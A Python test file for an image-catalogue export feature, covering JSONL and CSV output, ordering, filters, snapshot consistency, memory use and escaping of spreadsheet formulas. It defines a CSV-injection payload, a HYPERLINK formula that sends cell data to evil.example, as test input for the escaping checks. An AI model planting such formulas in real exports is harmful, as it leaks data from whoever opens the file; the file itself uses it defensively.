"""Exports: everything asked for, sorted, the same bytes for the same catalogue, harmless in a spreadsheet."""

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

import numpy as np
import pytest
from sqlalchemy.orm import Session

from indexer.catalog import Catalog
from indexer.catalog.detections import detectors, embeddings
from indexer.catalog.images import collections, images, labels, sightings, sources
from indexer.catalog.records.detections import NewDetection
from indexer.catalog.records.filters import ImageFilter
from indexer.catalog.records.images import NewImage
from indexer.catalog.records.labels import NewLabel
from indexer.catalog.records.sources import NewSource
from indexer.errors import UsageError
from indexer.exchange import export_images
from indexer.exchange.csv_safety import safe_cell
from indexer.exchange.export import COLUMNS
from indexer.sightings import NewSighting
from indexer.vocabulary import LabelSource, LabelValue, Technique

DETECTOR = "f" * 64
HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"click")'


@pytest.fixture
def catalog(database_url: str) -> Iterator[Catalog]:
    with Catalog.open(database_url) as opened:
        yield opened


def digest(number: int) -> str:
    return sha256(str(number).encode()).hexdigest()


def add(session: Session, number: int, *, said: LabelValue = LabelValue.FAKE, text: str = "plain") -> None:
    """An image with one of everything; `text` is what outsiders wrote."""
    new = NewImage(digest(number), 9, "JPEG", 4, 3, "RGB", 1, (), bytes([number % 256]) * 32, 90, "reference")
    image_id = images.add(session, new)
    labels.state(session, image_id, [NewLabel(said, LabelSource.HUMAN, text, Technique.FACE_SWAP, text, text)])
    sightings.add(session, image_id, [NewSighting(url=text, platform=text, account=text, caption=text)])
    sources.add(session, image_id, NewSource(text, text, {text: text}))
    collections.ensure(session, text)
    collections.add_images(session, text, [image_id])
    detector_id = detectors.register(session, "small", DETECTOR, True, {})
    vector = np.full(384, 384**-0.5, np.float32)
    embeddings.add(session, detector_id, [(image_id, NewDetection(vector, (0.5,), 0.125))])


def exported(catalog: Catalog, kind: str, wanted: ImageFilter | None = None) -> str:
    stream = io.StringIO(newline="")
    count = export_images(catalog, wanted or ImageFilter(), kind, stream)
    lines = len(list(csv.reader(io.StringIO(stream.getvalue(), newline="")))) - (kind == "csv")
    assert count == (lines if kind == "csv" else stream.getvalue().count("\n"))
    return stream.getvalue()


def rows(catalog: Catalog, wanted: ImageFilter | None = None) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported(catalog, "csv", wanted), newline="")))


def test_json_lines_hold_everything_about_each_image_sorted_by_sha256(
    catalog: Catalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("indexer.exchange.export._AT_ONCE", 20)
    with catalog.writing() as session:
        for number in range(90):
            images.add(session, NewImage(digest(number), 9, "JPEG", 4, 3, "RGB", 1, (), bytes(32), 90, "reference"))
        add(session, 5)
    found = [json.loads(line) for line in exported(catalog, "jsonl").splitlines()]
    assert [image["sha256"] for image in found] == sorted(digest(number) for number in range(90))
    image = next(image for image in found if image["sha256"] == digest(5))
    assert image["label"]["value"] == "fake"
    assert image["labels"][0]["technique"] == "face_swap"
    assert image["sightings"][0]["platform"] == "plain"
    assert image["collections"] == ["plain"]
    assert image["detections"][0]["p_fake"] == 0.125
    assert image["sources"][0]["fields"] == {"plain": "plain"}
    assert image["added_at"].endswith("Z")


@pytest.mark.parametrize("kind", ["jsonl", "csv"])
def test_the_same_catalogue_gives_the_same_bytes_whatever_the_order_it_was_filled_in(
    catalog: Catalog, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    with catalog.writing() as session:
        for number in (3, 1, 2):
            add(session, number)
    before = exported(catalog, kind)
    assert exported(catalog, kind) == before
    monkeypatch.setattr("indexer.exchange.export._AT_ONCE", 2)
    assert exported(catalog, kind) == before
    order = [
        line.find(digest(number)) for line in before.splitlines() for number in (1, 2, 3) if digest(number) in line
    ]
    assert len(order) == 3


def test_only_what_meets_the_filter_is_exported(catalog: Catalog) -> None:
    with catalog.writing() as session:
        add(session, 1)
        add(session, 2, said=LabelValue.AUTHENTIC)
        add(session, 3, text="telegram")
    assert [row["sha256"] for row in rows(catalog, ImageFilter(label=LabelValue.AUTHENTIC))] == [digest(2)]
    assert [row["sha256"] for row in rows(catalog, ImageFilter(platform="telegram"))] == [digest(3)]
    assert exported(catalog, "jsonl", ImageFilter(generator="none")) == ""


def test_a_csv_has_a_row_an_image_under_its_columns(catalog: Catalog) -> None:
    with catalog.writing() as session:
        add(session, 1)
    (row,) = rows(catalog)
    assert tuple(row) == COLUMNS
    assert (row["sha256"], row["label"], row["technique"], row["disputed"]) == (digest(1), "fake", "face_swap", "no")
    assert (row["pdq"], row["scores"], row["sources"]) == ("01" * 32, "small 0.125000", "plain: plain")
    assert (row["generator"], row["urls"], row["collections"]) == ("plain", "plain", "plain")


def test_no_cell_of_a_csv_runs_as_a_formula(catalog: Catalog) -> None:
    with catalog.writing() as session:
        for number, start in enumerate(("", "+", "-", "@", "\t=", " =", "＝", "x\r\n", ";")):
            add(session, number, text=f"{start}{HOSTILE}")
    for row in rows(catalog):
        for cell in row.values():
            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
    text = exported(catalog, "csv")
    quoted = io.StringIO(newline="")
    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(csv.reader(io.StringIO(text, newline="")))
    assert text == quoted.getvalue(), "a separator in an unquoted cell would start another one"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1", "'  =1"),
        ("\u3000＝1", "'\u3000＝1"),
        ("", ""),
        (" ", " "),
        ("a=1", "a=1"),
        ("https://example/?a=-1", "https://example/?a=-1"),
    ],
)
def test_only_cells_a_spreadsheet_would_run_are_changed(text: str, safe: str) -> None:
    assert safe_cell(text) == safe


def test_a_format_nobody_knows_is_refused(catalog: Catalog) -> None:
    with pytest.raises(UsageError, match="cannot export as 'xlsx': choose jsonl or csv or mediareview or stix or misp"):
        export_images(catalog, ImageFilter(), "xlsx", io.StringIO())


def test_the_export_is_of_one_moment(catalog: Catalog) -> None:
    """Images that others add while it runs are not in it."""

    class Interfering(io.StringIO):
        def write(self, text: str) -> int:
            with catalog.writing() as session:
                add(session, 1_000 + self.tell())
            return super().write(text)

    with catalog.writing() as session:
        for number in range(3):
            add(session, number)
    stream = Interfering()
    assert export_images(catalog, ImageFilter(), "jsonl", stream) == 3
    assert export_images(catalog, ImageFilter(), "jsonl", io.StringIO()) == 6


def test_memory_stays_flat(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Far less is held at once than is written in all."""
    monkeypatch.setattr("indexer.exchange.export._AT_ONCE", 10)
    written = 0

    class Counting(io.StringIO):
        def write(self, text: str) -> int:
            nonlocal written
            written += len(text)
            return len(text)

    with Catalog.open(f"sqlite:///{tmp_path / 'c.sqlite'}") as catalog:
        with catalog.writing() as session:
            for number in range(300):
                note = "note" * 7_000
                images.add(
                    session, NewImage(digest(number), 9, "JPEG", 4, 3, "RGB", 1, (note,), bytes(32), 90, "reference")
                )
        tracemalloc.start()
        try:
            export_images(catalog, ImageFilter(), "jsonl", Counting())
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert written > 8_000_000
    assert peak < written / 3
